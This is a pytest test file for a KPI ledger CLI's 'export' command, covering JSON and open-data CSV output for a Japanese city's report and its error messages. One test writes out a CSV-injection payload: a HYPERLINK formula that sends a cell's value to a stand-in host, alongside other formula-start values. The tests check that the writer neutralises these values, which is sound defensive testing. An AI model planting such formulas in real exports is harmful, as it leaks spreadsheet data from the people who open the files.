"""`kpiledger export` (issue 9, first slice): the ledger's report as the JSON of
`evaluate --format json` and as open-data CSV (long and wide), and its errors.

The reference report has 24 KPIs and 5 year columns (R1–R5 = 2019–2023): 24 wide rows and
24 × 5 = 120 long rows.
"""

from __future__ import annotations

import csv
import io
import os
from pathlib import Path

import pytest

from kpiledger.cli.main import main
from kpiledger.core.evaluate import evaluate_report
from kpiledger.io.readers import read_report
from kpiledger.io.writers import opendata
from kpiledger.web.ledger.tests import factories as f

pytestmark = pytest.mark.django_db(transaction=True)

REFERENCE = str(f.REFERENCE_PATH)
YEARS = [2019, 2020, 2021, 2022, 2023]
LOWER_IS_BETTER = "標準学力検査結果平均正答率が全国比-5ポイント以下の学校数"


def run(capsys, *argv: str) -> tuple[int, str, str]:
    status = main(list(argv))
    captured = capsys.readouterr()
    return status, captured.out, captured.err


@pytest.fixture
def imported(capsys):
    assert run(capsys, "import", REFERENCE, "--org", "012068")[0] == 0


def exported(capsys, tmp_path: Path, fmt: str) -> bytes:
    path = tmp_path / f"out.{fmt}"
    status, out, err = run(capsys, "export", "--org", "012068", "--year", "2023",
                           "--format", fmt, "-o", str(path))  # fmt: skip
    assert (status, out, err) == (0, "", "")
    return path.read_bytes()


def read_csv(content: bytes) -> tuple[list[str], list[dict[str, str]]]:
    """The header and the rows, read as a user would (csv module, utf-8-sig)."""
    assert content.startswith(b"\xef\xbb\xbf"), "UTF-8 with BOM"
    text = content.decode("utf-8-sig")
    header = next(csv.reader(io.StringIO(text)))
    return header, list(csv.DictReader(io.StringIO(text)))


# --- JSON -------------------------------------------------------------------------------------


def test_json_from_the_ledger_is_what_evaluate_writes_for_the_file(imported, capsys, tmp_path):
    status, from_file, _ = run(capsys, "evaluate", REFERENCE, "--format", "json")
    assert status == 0
    assert exported(capsys, tmp_path, "json") == from_file.encode("utf-8")


def test_no_output_or_dash_writes_to_stdout_and_the_year_defaults_to_the_latest(
    imported, capsys, tmp_path
):
    to_file = exported(capsys, tmp_path, "json")
    status, out, _ = run(capsys, "export", "--org", "012068")
    assert status == 0 and out.encode("utf-8") == to_file
    status, out, _ = run(capsys, "export", "--org", "０１２０６８", "-o", "-", "--format", "json")
    assert status == 0 and out.encode("utf-8") == to_file


# --- CSV for open data --------------------------------------------------------------------------


def test_wide_csv_one_header_row_and_a_row_per_kpi(imported, capsys, tmp_path):
    header, rows = read_csv(exported(capsys, tmp_path, "csv-wide"))
    assert header[:4] == ["全国地方公共団体コード", "地方公共団体名", "報告年度", "KPI番号"]
    assert [opendata.year_column(y) for y in YEARS] == [h for h in header if "実績値" in h]
    assert len(rows) == 24
    assert all(not row["全国地方公共団体コード"].startswith("全国") for row in rows)
    assert [row["KPI番号"] for row in rows] == [str(n) for n in range(1, 25)]
    assert {row["全国地方公共団体コード"] for row in rows} == {"012068"}
    assert {row["地方公共団体名"] for row in rows} == {"釧路市"}
    migrants = next(row for row in rows if row["指標"] == f.MIGRANTS)
    expected = {
        "報告年度": "2023", "区分": "対象事業", "単位": "人", "目標値": "121",
        "目標年月": "2024-03", "目標年度": "2023", "基準値": "", "基準年度": "",
        "実績値_2019年度": "", "実績値_2020年度": "", "実績値_2021年度": "",
        "実績値_2022年度": "112", "実績値_2023年度": "105", "評価年度": "2023",
        "達成率": "86.8", "状況": "概ね達成", "状況コード": "nearly_achieved",
        "方向": "高いほど良い", "方向コード": "increase", "集計": "年間値", "集計コード": "annual",
    }  # fmt: skip
    assert {key: migrants[key] for key in expected} == expected


def test_long_csv_one_row_per_kpi_and_year_values_exactly(imported, capsys, tmp_path):
    header, rows = read_csv(exported(capsys, tmp_path, "csv"))
    assert header.count("全国地方公共団体コード") == 1 and "年度" in header
    assert len(rows) == 24 * len(YEARS)
    lower = [row for row in rows if row["指標"] == LOWER_IS_BETTER]
    assert [row["年度"] for row in lower] == [str(y) for y in YEARS]
    assert [(row["実績値"], row["値なしの表記"]) for row in lower] == [
        ("", "-"), ("", "-"), ("", "-"), ("", "-"), ("6", ""),
    ]  # fmt: skip
    for row in lower:  # the KPI and its judgement on every year's row
        assert row["KPI番号"] == "22" and row["単位"] == "学校数" and row["目標値"] == "5"
        assert (row["方向"], row["方向コード"]) == ("低いほど良い", "decrease")
        assert (row["達成率"], row["状況"], row["状況コード"]) == (
            "83.3",
            "概ね達成",
            "nearly_achieved",
        )
        assert row["目標年月"] == "2024-03" and row["全国地方公共団体コード"] == "012068"
    satisfaction = [row for row in rows if row["指標"] == f.SATISFACTION]
    assert [row["実績値"] for row in satisfaction] == ["", "", "", "", "73.5"]
    assert [row["値なしの表記"] for row in satisfaction] == ["-", "-", "-", "-", ""]
    assert {(row["単位"], row["達成率"], row["状況コード"]) for row in satisfaction} == {
        ("%", "133.6", "achieved")
    }


def test_the_decimals_are_written_as_published(imported, capsys, tmp_path):
    """No float anywhere: every number cell is the JSON output's number, character for
    character (`2300`, `73.5`, `110.0`)."""
    _, rows = read_csv(exported(capsys, tmp_path, "csv-wide"))
    k_biz = next(row for row in rows if row["KPI番号"] == "2")
    assert (k_biz["目標値"], k_biz["実績値_2023年度"], k_biz["達成率"]) == ("2300", "1878", "81.7")
    assert next(row for row in rows if row["KPI番号"] == "1")["達成率"] == "110.0"


HOSTILE = '=HYPERLINK("http://example.invalid/?"&A1,"詳細")'


def test_formula_cells_from_a_hostile_report_are_neutralized(capsys, tmp_path):
    text = (
        f.REFERENCE_TEXT.replace(f.MIGRANTS, HOSTILE, 1)
        .replace("】 新しい生活様式", "】 @新しい生活様式", 1)  # a project name
        .replace("サテライトオフィス等施設の利用者数", "-1+1 利用者数", 1)
    )
    path = tmp_path / "hostile.txt"
    path.write_text(text, encoding="utf-8")
    assert run(capsys, "import", str(path), "--org", "012068")[0] == 0
    for fmt in ("csv", "csv-wide"):
        _, rows = read_csv(exported(capsys, tmp_path, fmt))
        cells = [cell for row in rows for cell in row.values()]
        assert {"'" + HOSTILE, "'-1+1 利用者数"} <= set(cells)
        assert any(cell.startswith("'@新しい生活様式") for cell in cells)
        assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")]
        assert {cell for cell in cells if cell.startswith("-")} <= {"-"}  # the no-value marker


def test_the_writer_neutralizes_every_formula_start():
    result = evaluate_report(read_report(f.REFERENCE_PATH))
    kpis = result.report.kpis
    hostile = ["=1+1", "+1", "-1+cmd", "@SUM(A1)", "\t=1", "\r=1"]
    for kpi, text in zip(kpis, hostile, strict=False):
        kpi.indicator = text
    text = opendata.dumps_wide(result, opendata.Publisher("012068", "釧路市"))
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [row["指標"] for row in rows[: len(hostile)]] == ["'" + h for h in hostile]


# --- errors -------------------------------------------------------------------------------------


def assert_refused(status: int, out: str, err: str, code: str, ja: str, en: str) -> None:
    assert (status, out) == (2, "")
    assert "Traceback" not in err
    assert f"[{code}]" in err
    assert err.index(ja) < err.index(en), "Japanese first"


def test_unknown_org_is_refused(imported, capsys):
    status, out, err = run(capsys, "export", "--org", "011002", "--year", "2023")
    assert_refused(status, out, err, "org-not-in-ledger",
                   "団体コード 011002 の団体は台帳にありません",
                   "no organization with the code 011002 is in the ledger")  # fmt: skip
    assert "012068" in err
    status, out, err = run(capsys, "export", "--org", "012067")
    assert_refused(status, out, err, "bad-org-code", "検査数字が違います", "wrong check digit")


def test_a_year_not_in_the_ledger_is_refused(imported, capsys, tmp_path):
    target = tmp_path / "out.json"
    status, out, err = run(capsys, "export", "--org", "012068", "--year", "2022", "-o", str(target))
    ja = "釧路市（012068）の2022年度の報告書は台帳にありません。台帳にある年度: 2023（R5年度）"
    en = "the ledger has no report of 012068 for FY2022 (its years: 2023)"
    assert_refused(status, out, err, "year-not-in-ledger", ja, en)
    assert not target.exists() and list(tmp_path.iterdir()) == []


def test_an_unwritable_path_is_refused_and_nothing_is_written(imported, capsys, tmp_path):
    cases = [
        (tmp_path, "フォルダです", "it is a folder"),
        (tmp_path / "missing" / "out.csv", "フォルダがありません", "its folder does not exist"),
    ]
    for path, ja, en in cases:
        status, out, err = run(capsys, "export", "--org", "012068", "--format", "csv",
                               "-o", str(path))  # fmt: skip
        assert_refused(status, out, err, "cannot-write", f"{path} に書き込めません（{ja}）",
                       f"cannot write {path} ({en})")  # fmt: skip
    assert not (tmp_path / "missing").exists()


def test_a_folder_without_write_permission_is_refused(imported, capsys, tmp_path, monkeypatch):
    """Run as any user (root may write anywhere, so the permission check is what is tested)."""
    locked = tmp_path / "locked"
    locked.mkdir()
    real_access = os.access
    monkeypatch.setattr(
        os, "access", lambda p, mode: False if str(p) == str(locked) else real_access(p, mode)
    )
    path = locked / "out.csv"
    status, out, err = run(capsys, "export", "--org", "012068", "--format", "csv", "-o", str(path))
    ja = f"{path} に書き込めません（書き込む権限がありません）"
    assert_refused(
        status, out, err, "cannot-write", ja, f"cannot write {path} (no permission to write)"
    )
    assert list(locked.iterdir()) == []


def test_a_failing_write_leaves_no_file_behind(imported, capsys, tmp_path, monkeypatch):
    def fail(*args):  # type: ignore[no-untyped-def]
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "replace", fail)
    status, out, err = run(capsys, "export", "--org", "012068", "-o", str(tmp_path / "a.json"))
    assert_refused(status, out, err, "cannot-write", "に書き込めません（No space left on device）",
                   "(No space left on device)")  # fmt: skip
    assert list(tmp_path.iterdir()) == []


def test_an_empty_ledger_names_no_organization(capsys):
    status, out, err = run(capsys, "export", "--org", "012068")
    assert_refused(status, out, err, "org-not-in-ledger", "台帳にある団体コード: なし",
                   "(its codes: none)")  # fmt: skip
